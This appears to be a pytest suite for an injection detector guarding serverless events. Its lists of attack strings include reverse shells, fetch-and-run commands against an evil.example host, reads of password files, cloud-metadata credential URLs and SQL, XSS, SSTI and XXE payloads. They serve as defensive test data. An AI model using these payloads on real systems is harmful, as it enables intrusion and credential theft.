"""Injection detectors: realistic attacks per category, tricky benign text, decoding, contract."""

from __future__ import annotations

import random
from collections import OrderedDict
from pathlib import Path

import pytest

from faasguard.runtime.detectors import CATEGORIES, Detection, scan, scan_value
from faasguard.runtime.detectors._decode import decoded, url_decode
from faasguard.runtime.detectors._ssrf import host_risk

ATTACKS = {
    "sqli": [
        "1 UNION SELECT username, password FROM users--",
        "' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables-- -",
        "admin'--",
        "admin' #",
        "' or 1=1--",
        '" or "a"="a',
        "') or ('1'='1",
        "1 or 1=1",
        "1; DROP TABLE users",
        "'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--",
        "x' AND SLEEP(5)--",
        "1) OR pg_sleep(5)--",
        "'; WAITFOR DELAY '0:0:5'--",
        "1' AND extractvalue(1,concat(0x7e,version()))--",
        "1' ORDER BY 3--+",
        "' group by password having 1=1--",
        "-1' UNION/**/SELECT/**/1,2,3--",
        "%27%20OR%201%3D1--",
        "1/*!50000UNION*//*!50000SELECT*/1,2",
        "\u2019 or \u20181\u2019=\u20191",
    ],
    "xss": [
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        '"><img src=x onerror=prompt(1)>',
        '" autofocus onfocus="alert(1)',
        "javascript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
        '<div style="width: expression(alert(1))">',
        "';alert(String.fromCharCode(88,83,83))//",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<details open ontoggle=confirm`1`>",
    ],
    "cmdi": [
        "nc 4444",  # a trailing number: a port, a delay, a count
        "curl evil 80",
        "a; whoami 5",
        "a; sleep 0.5",
        "cat file 2",
        "127.0.0.1; cat /etc/passwd",
        "127.0.0.1 && whoami",
        "foo | nc -e /bin/sh 10.0.0.1 4444",
        "$(curl http://evil.example/x.sh | sh)",
        "`id`",
        "%0aid%0a",
        "x;${IFS}cat${IFS}/etc/shadow",
        "() { :;}; /bin/bash -c 'curl http://evil.example'",
        "{cat,/etc/passwd}",
        "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "& type C:\\Windows\\win.ini",
        "| net user hacker P4ss /ADD",
        "system('id')",
        '<!--#exec cmd="/bin/cat /etc/passwd"-->',
        "; cat /et'c/pa'ss'wd",
    ],
    "traversal": [
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "..%252f..%252f..%252fetc%252fpasswd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "....//....//....//etc/shadow",
        "..\\..\\..\\windows\\win.ini",
        "..;/..;/WEB-INF/web.xml",
        "/proc/self/environ",
        "/etc/passwd",
        "C:\\boot.ini",
        "php://filter/convert.base64-encode/resource=index.php",
        "../../../../etc/passwd%00.png",
        "%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd",
        "0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd",
    ],
    "ssti": [
        "{{7*7}}",
        "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${7*7}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "<%= 7*7 %>",
        "<%= `id` %>",
        "#{7*7}",
        "{% import os %}{{ os.system('id') }}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        "{{request|attr('application')}}",
        '#set($x=$class.inspect("java.lang.Runtime"))',
    ],
    "nosqli": [
        '{"$gt": ""}',
        "username[$ne]=admin&password[$ne]=x",
        "{$where: 'sleep(5000)'}",
        "', $where: '1 == 1'",
        "'; return true; var x='",
        "' && this.password.match(/^a.*/)//",
        "0;while(true){}",
        "db.users.find({})",
    ],
    "xxe": [
        '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        "<foo>&xxe;</foo>",
        '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]>',
        '<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd"><foo/>',
        '<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></root>',
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://[::ffff:169.254.169.254]/latest/",
        "http://2852039166/latest/",
        "http://0xa9fea9fe/",
        "http://0251.0376.0251.0376/",
        "http://127.1/admin",
        "http://localhost:8080/actuator/env",
        "http://[::1]:6379/",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "dict://10.0.0.8:11211/stat",
        "http://127.0.0.1.nip.io/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://192.168.1.10/router",
        "https://trusted.example@127.0.0.1/",
    ],
    "crlf": [
        "foo%0d%0aSet-Cookie:%20session=evil",
        "/redirect?to=x%0D%0ALocation:%20https://evil.example",
        "value\r\nX-Injected: 1",
        "victim@example.com%0aBcc:%20spam@example.com",
        "hello\r\nRCPT TO: <attacker@example.com>\r\n",
    ],
    "ldapi": [
        "*)(uid=*))(|(uid=*",
        "admin)(&)",
        "*)(|(objectClass=*)",
        "admin*)((|userPassword=*)",
        "%2A%28%7C%28mail%3D%2A%29%29",
    ],
}

BENIGN = [
    "Ring twice (the bell is broken); call 1 if needed.",  # ';' + 'call' + a number
    "Gift: wrap it, no invoice in the box, thanks! Order ref 2",
    "O'Brien",
    "Dan O'Connor's order",
    "L'assurance de rouler sans soucis",
    "SELECT your size",
    "Please select one from the list",
    "union was a great select",
    "I want to drop the table from the order and update my address",
    "Delete from cart",
    "1 < 2 and 3 > 2",
    "The ratio 3/4 = 0.75",
    "reports/2024/q1.pdf",
    "/home/user/docs/report.pdf",
    "C:\\Users\\me\\Documents\\cv.docx",
    "https://example.com/search?q=shoes&size=42&sort=price",
    "https://www.example.org/a/b?x=1;y=2#top",
    "https://localhost.example.com/x",
    "# Title\n\n* item one\n* item two\n\n**bold** and _italic_ [link](https://example.com)",
    "```python\nprint('hi')\n```",
    '{"id": 42, "tags": ["a", "b"], "price": 9.99}',
    "Tom & Jerry; Bonnie & Clyde",
    "rock & roll | pop",
    "Meeting at 10:30; bring the slides",
    "Price: $5 (incl. tax)",
    "We sell 100% cotton shirts",
    "R&D budget +20%",
    'He said "hello" -- then left',
    "what... really?",
    "Use {name} as placeholder",
    "Hello {{ first_name }}",
    "Call (555) 123-4567",
    "john+or@var.es",
    "D'or 1st parfume",
    "echo in the mirror",
    "bash away in the gym",
    "ls 300 lexus",
    "JavaScript: Basics of JavaScript Language",
    "Line one\nLine two\nLine three",
    "127.0.0.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "mutation MyNewTask($desc: String!) {\n  createTask(description: $desc) {\n    id\n  }\n}\n",
    "arn:aws:sqs:us-east-1:123456789012:orders-queue",
    "",
    # words that start like event handlers, escaped markup, template literals, YAML tags
    "online",
    "onion",
    "Ongoing",
    "one",
    "only",
    "onboarding",
    "&lt;",
    "<",
    "a &lt; b",
    "Total: ${total}",
    "!!binary |\n  R0lGODlhDAAMAIQAAP",
    "!!str 123",
    "; see the appendix for details",
    "| Name | Price |",
]

# Probe classes: a value that is nothing but a DOM event-handler name, or an obfuscated "<"
PROBES = [
    "onmouseover",
    "onError",
    "ONLOAD",
    "onpointerrawupdate",
    "onwebkitanimationend",
    " onfocusin ",
    "&#0000060",
    "&#x00003C;",
    "\\x3c",
    "\\u003C",
    "%3C",
    "%253c",
]

# Code injection written for interpreters a shell command reaches: PHP complex interpolation,
# unsafe YAML tags, and a value that opens with a command separator.
CODE_INJECTION = [
    "{${system('id')}}",
    " {${sleep(5)}} ",
    "${@print(md5(x))}",
    "!!python/object/apply:os.system ['id']",
    "!!python/object/new:subprocess.Popen [['sh']]",
    ";echo '<b>owned</b>'",
    "| cat x",
]


def _flat(cases: dict[str, list[str]]) -> list[tuple[str, str]]:
    return [(cat, text) for cat, texts in cases.items() for text in texts]


@pytest.mark.parametrize(("category", "payload"), _flat(ATTACKS))
def test_attack_is_detected_in_its_category(category: str, payload: str) -> None:
    found = scan(payload)
    assert category in {d.category for d in found}, (payload, found)


@pytest.mark.parametrize("text", BENIGN)
def test_tricky_benign_text_is_clean(text: str) -> None:
    assert scan(text) == []


@pytest.mark.parametrize("text", PROBES)
def test_probe_values_are_xss_with_low_confidence(text: str) -> None:
    found = scan(text)
    assert [d.category for d in found] == ["xss"], found
    assert found[0].rule.endswith("-probe") and found[0].confidence < 0.5


@pytest.mark.parametrize("text", CODE_INJECTION)
def test_code_injection_is_cmdi(text: str) -> None:
    assert "cmdi" in {d.category for d in scan(text)}


def test_detection_contract() -> None:
    found = scan("1' UNION SELECT password FROM users--")
    assert found and all(isinstance(d, Detection) for d in found)
    det = found[0]
    assert det.category in CATEGORIES
    assert det.rule.startswith(det.category + ".")
    assert 0.0 < det.confidence <= 1.0
    assert [d.confidence for d in found] == sorted((d.confidence for d in found), reverse=True)
    with pytest.raises(AttributeError):  # frozen, as a frozen dataclass is
        det.rule = "x"  # type: ignore[misc]
    assert det == Detection(det.category, det.rule, det.confidence, det.excerpt)
    assert hash(det) == hash(Detection(det.category, det.rule, det.confidence, det.excerpt))
    assert not hasattr(det, "__dict__")


def test_excerpt_is_short_and_escaped() -> None:
    secret = "A" * 500
    found = scan(secret + "\r\n\x00<script>alert(1)</script>" + secret)
    assert found
    for det in found:
        assert len(det.excerpt) <= 40
        assert not any(ord(c) < 32 for c in det.excerpt)
        assert secret not in det.excerpt


def test_random_hostile_strings_never_raise() -> None:
    rng = random.Random(7)
    pieces = [
        *"'\"`;|&$(){}[]<>%\\/.:=*!@#-+?, \n\r\t\x00",
        "%c0", "%u2215", "%0a", "&#", "\\x", "+AD", "{{", "${", "..", "0x", "http://", "\ud800",
        "\u00e9", "\uff0e", "select", "or", "union", "1", "a",
    ]  # fmt: skip
    for _ in range(3000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 40)))
        for det in scan(text):
            det.excerpt.encode("utf-8")  # printable, loggable: no lone surrogates


def test_categories_filter() -> None:
    payload = "'; cat /etc/passwd; <script>alert(1)</script>"
    assert {d.category for d in scan(payload, categories=frozenset({"xss"}))} == {"xss"}
    assert scan(payload, categories=frozenset()) == []
    assert scan("<script>alert(1)</script>", categories=frozenset({"sqli"})) == []


def test_json_in_string_is_parsed() -> None:
    body = '{"user": {"name": "x", "filter": {"$where": "sleep(100)"}}, "q": "1 OR 1=1"}'
    rules = {d.rule for d in scan(body)}
    assert "nosqli.operator-key" in rules
    assert "sqli.tautology" in rules


# ---- decoding -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "plain"),
    [
        ("%3Cscript%3E", "<script>"),
        ("%253Cscript%253E", "<script>"),
        ("%u003Cscript%u003E", "<script>"),
        ("%c0%ae%c0%ae%c0%af", "../"),
        ("%e0%80%ae", "."),
        ("&lt;b&gt;&#106;&#x61;", "<b>ja"),
        ("\\x3cscript\\u003e", "<script>"),
        ("\uff1cscript\uff1e", "<script>"),
        ("0x2e0x2e0x2f", "../"),
        ("plain text", "plain text"),
    ],
)
def test_decoded(raw: str, plain: str) -> None:
    assert decoded(raw) == plain


def test_url_decode_keeps_invalid_escapes() -> None:
    assert url_decode("100% sure %zz") == "100% sure %zz"


def test_decoding_is_bounded() -> None:
    deep = "<script>"
    for _ in range(10):
        deep = deep.replace("%", "%25").replace("<", "%3C").replace(">", "%3E")
    assert decoded(deep) != "<script>"  # at most a few rounds, never unbounded work


# ---- SSRF host classification ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("host", "risk"),
    [
        ("169.254.169.254", "metadata"),
        ("2852039166", "metadata"),
        ("0xA9FEA9FE", "metadata"),
        ("0251.0376.0251.0376", "metadata"),
        ("[fd00:ec2::254]", "metadata"),
        ("127.0.0.1", "loopback"),
        ("127.1", "loopback"),
        ("0", "loopback"),
        ("[::1]", "loopback"),
        ("[::ffff:127.0.0.1]", "loopback"),
        ("10.1.2.3", "private"),
        ("172.20.0.1", "private"),
        ("192.168.0.1", "private"),
        ("localhost", "loopback"),
        ("app.127.0.0.1.nip.io", "rebinding"),
        ("example.com", None),
        ("8.8.8.8", None),
        ("172.32.0.1", None),
        ("1.2.3.4.5", None),
    ],
)
def test_host_risk(host: str, risk: str | None) -> None:
    assert host_risk(host) == risk


# ---- scan_value over realistic AWS events ---------------------------------------------------

APIGW_V1 = {
    "resource": "/orders/{id}",
    "path": "/orders/42",
    "httpMethod": "POST",
    "headers": {
        "Accept": "application/json",
        "Content-Type": "application/json",
        "Host": "abc123.execute-api.eu-west-1.amazonaws.com",
        "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
        "X-Forwarded-For": "203.0.113.10, 10.0.0.1",
    },
    "queryStringParameters": {"expand": "items", "sort": "created_at desc"},
    "pathParameters": {"id": "42"},
    "requestContext": {
        "accountId": "123456789012",
        "requestId": "c6af9ac6-7b61-11e6-9a41-93e8deadbeef",
        "identity": {"sourceIp": "203.0.113.10", "userAgent": "curl/8.4.0"},
        "stage": "prod",
    },
    "body": '{"customer": "Zo\\u00eb O\'Brien", "items": [{"sku": "SKU-1", "qty": 2}]}',
    "isBase64Encoded": False,
}

APIGW_V2 = {
    "version": "2.0",
    "routeKey": "GET /search",
    "rawPath": "/search",
    "rawQueryString": "q=blue+mug&page=2",
    "cookies": ["session=abc123; Path=/"],
    "headers": {"accept": "text/html,application/xhtml+xml", "x-amzn-trace-id": "Root=1-abc"},
    "queryStringParameters": {"q": "blue mug", "page": "2"},
    "requestContext": {
        "http": {"method": "GET", "path": "/search", "sourceIp": "198.51.100.7"},
        "timeEpoch": 1583348638390,
    },
    "isBase64Encoded": False,
}

SQS = {
    "Records": [
        {
            "messageId": "059f36b4-87a3-44ab-83d2-661975830a7d",
            "body": '{"orderId": 7, "note": "ring twice"}',
            "attributes": {"ApproximateReceiveCount": "1", "SentTimestamp": "1545082649183"},
            "eventSource": "aws:sqs",
            "eventSourceARN": "arn:aws:sqs:us-east-2:123456789012:my-queue",
        }
    ]
}

S3 = {
    "Records": [
        {
            "eventSource": "aws:s3",
            "eventName": "ObjectCreated:Put",
            "s3": {
                "bucket": {"name": "uploads", "arn": "arn:aws:s3:::uploads"},
                "object": {"key": "invoices/2024/03/inv-001.pdf", "size": 1024},
            },
        }
    ]
}

DYNAMODB = {
    "Records": [
        {
            "eventName": "INSERT",
            "dynamodb": {
                "Keys": {"Id": {"N": "101"}},
                "NewImage": {"Message": {"S": "New item!"}, "Id": {"N": "101"}},
                "StreamViewType": "NEW_AND_OLD_IMAGES",
            },
            "eventSourceARN": "arn:aws:dynamodb:us-east-1:123456789012:table/Example/stream/x",
        }
    ]
}

SCHEDULE = {
    "version": "0",
    "id": "89d1a02d-5ec7-412e-82f5-13505f849b41",
    "detail-type": "Scheduled Event",
    "source": "aws.events",
    "time": "2024-03-01T00:00:00Z",
    "resources": ["arn:aws:events:us-east-1:123456789012:rule/nightly"],
    "detail": {},
}


@pytest.mark.parametrize("event", [APIGW_V1, APIGW_V2, SQS, S3, DYNAMODB, SCHEDULE])
def test_benign_aws_events_are_clean(event: dict) -> None:
    assert scan_value(event) == []


def test_scan_value_reports_field_paths() -> None:
    event = {
        "body": {
            "items": [{"name": "mug"}, {"name": "cup"}, {"name": "<script>alert(1)</script>"}],
            "filter": {"price": {"$gt": 0}},
        },
        "query": {"q": "1' OR '1'='1"},
    }
    paths = {(path, det.category) for path, det in scan_value(event)}
    assert ("body.items[2].name", "xss") in paths
    assert ("body.filter.price.$gt", "nosqli") in paths
    assert ("query.q", "sqli") in paths


def test_scan_value_json_string_fields_and_keys() -> None:
    record = {"Records": [{"body": '{"user": {"$ne": null}}', "messageId": "m-1"}]}
    found = scan_value(record)
    assert [(p, d.rule) for p, d in found] == [("Records[0].body", "nosqli.operator-key")]
    assert scan_value({"<img src=x onerror=alert(1)>": "v"})[0][1].category == "xss"


def test_scan_value_repeated_strings_report_every_field() -> None:
    attack = "<script>alert(1)</script>"
    event = {"a": [attack, "plain", attack], "b": {attack: attack}, 3: {"c": attack}}
    found = scan_value(event)
    paths = list(dict.fromkeys(p for p, d in found if d.category == "xss"))
    assert paths == ["a[0]", "a[2]", f"b.{attack}", "[3].c"]  # document order, every occurrence
    assert sum(p == f"b.{attack}" for p, _ in found) == 2 * sum(p == "a[0]" for p, _ in found)
    assert found == scan_value(event)  # memoised results are not shared mutable state


def test_scan_value_is_bounded() -> None:
    many = {"items": ["<script>alert(1)</script>"] * 50}
    assert len(scan_value(many, max_strings=10)) <= 10 * 3
    deep: object = "<script>alert(1)</script>"
    for _ in range(500):
        deep = [deep]
    assert scan_value(deep) == []  # nesting deeper than the walk limit is not followed
    assert scan_value(None) == [] and scan_value(42) == [] and scan_value(b"<script>") == []


def test_operator_like_keys_that_are_not_operators_are_fine() -> None:
    assert scan_value({"$schema": "https://json-schema.org/draft/2020-12/schema"}) == []
    assert scan_value({"price": {"amount": 5, "currency": "$"}}) == []


@pytest.mark.parametrize(
    ("text", "quiet"),
    [
        ("Zoë O'Brien", True),
        ("12 Rue de l'Église", True),
        ("Müller-Lüdenscheidt", True),
        ("l'Église d'Orléans", False),  # two quotes: could balance a SQL string
        ("admin'", False),  # the classic quote probe
        ("a'or'b", False),
        ("x' or 1", False),
        ("\u017felect", False),  # long s: NFKC turns it into "select"
        ("\uff33elect", False),  # fullwidth S
    ],
)
def test_prose_fast_path_never_hides_quote_tricks(text: str, quiet: bool) -> None:
    from faasguard.runtime.detectors import _is_quiet

    assert _is_quiet(text) is quiet


def test_verdict_cache_is_bounded_keyed_and_keeps_no_text(monkeypatch: pytest.MonkeyPatch) -> None:
    from faasguard.runtime import detectors

    monkeypatch.setattr(detectors, "_VERDICTS", OrderedDict())
    monkeypatch.setattr(detectors, "_VERDICTS_MAX", 8)
    attack = "<img src=x onerror=alert(1)>"
    first = scan_value({"q": attack})
    assert first and scan_value({"q": attack}) == first  # served from the cache
    assert scan_value({"q": attack}, categories=frozenset({"sqli"})) == []  # categories key it
    for n in range(50):
        scan_value({"q": f"Earl Grey tea (loose leaf, {n} g)"})
    assert len(detectors._VERDICTS) == 8
    assert all(type(key) in (int, bytes) for key in detectors._VERDICTS)  # digests, no text
    assert scan_value({"q": attack}) == first  # evicted, scanned again, same answer


def test_verdict_keys_use_a_secret_keyed_hash() -> None:
    from faasguard.runtime import detectors

    assert detectors._digest_function(secret_hash=True) is hash  # SipHash, random key
    digest = detectors._digest_function(secret_hash=False)  # PYTHONHASHSEED pins the key
    one = digest("Earl Grey (loose)")
    other = detectors._digest_function(secret_hash=False)("Earl Grey (loose)")
    assert isinstance(one, bytes) and len(one) == 16 and one != other  # random key each time


def test_a_pinned_hash_seed_is_noticed_at_import() -> None:
    import subprocess
    import sys

    code = "from faasguard.runtime import detectors as d; print(d._HASH_KEY_IS_SECRET)"
    env = {"PYTHONPATH": str(Path(detectors_file()).parents[3])}
    for seed, expected in (("random", "True"), ("0", "False"), ("1234", "False")):
        out = subprocess.run([sys.executable, "-c", code], env={**env, "PYTHONHASHSEED": seed},
                             capture_output=True, text=True, check=True)  # fmt: skip
        assert out.stdout.strip() == expected, seed


def detectors_file() -> str:
    from faasguard.runtime import detectors

    return detectors.__file__


def test_keys_are_checked_even_when_their_siblings_are_identifiers() -> None:
    """A key that starts with a digit is not an identifier, even if it joins into one."""
    found = scan_value({"name": "x", "0x2e0x2e0x2fetc0x2fpasswd": 1})
    assert {d.category for _, d in found} == {"traversal"}
    assert {path for path, _ in found} == {"0x2e0x2e0x2fetc0x2fpasswd"}


def test_values_that_are_not_strings_do_not_use_up_the_string_budget() -> None:
    attack = "<script>alert(1)</script>"
    assert scan_value({"q": [0] * 1000 + [attack]})
    assert scan_value({**{f"k{i}": 0 for i in range(1000)}, "x": attack})
    many = {"items": ["<b>x</b> y" * 3] * 5000 + [attack]}  # the budget still ends the walk
    assert not any(path == "items[5000]" for path, _ in scan_value(many))


def test_categories_may_be_any_collection_and_str_subclasses_are_read_as_text() -> None:
    attack = "<script>alert(1)</script>"
    assert scan_value({"q": attack}, categories={"xss"}) == scan_value(
        {"q": attack}, categories=frozenset({"xss"})
    )
    assert scan(attack, categories=["xss"])

    class Disguised(str):
        def __str__(self) -> str:
            return "hello"

    assert scan_value({"k": [Disguised(attack)], "j": Disguised(attack)})


def test_verdict_cache_survives_concurrent_eviction(monkeypatch: pytest.MonkeyPatch) -> None:
    import sys
    import threading

    from faasguard.runtime import detectors

    monkeypatch.setattr(detectors, "_VERDICTS", OrderedDict())
    monkeypatch.setattr(detectors, "_VERDICTS_MAX", 4)
    errors: list[BaseException] = []

    def work(offset: int) -> None:
        try:
            for n in range(300):
                scan_value({"q": f"Earl Grey tea (loose leaf, {offset + n} g)"})
        except BaseException as exc:  # any escape is the failure
            errors.append(exc)

    interval = sys.getswitchinterval()
    sys.setswitchinterval(1e-6)
    try:
        threads = [threading.Thread(target=work, args=(1000 * i,)) for i in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    finally:
        sys.setswitchinterval(interval)
    assert errors == []
    assert len(detectors._VERDICTS) <= 4 + len(threads)
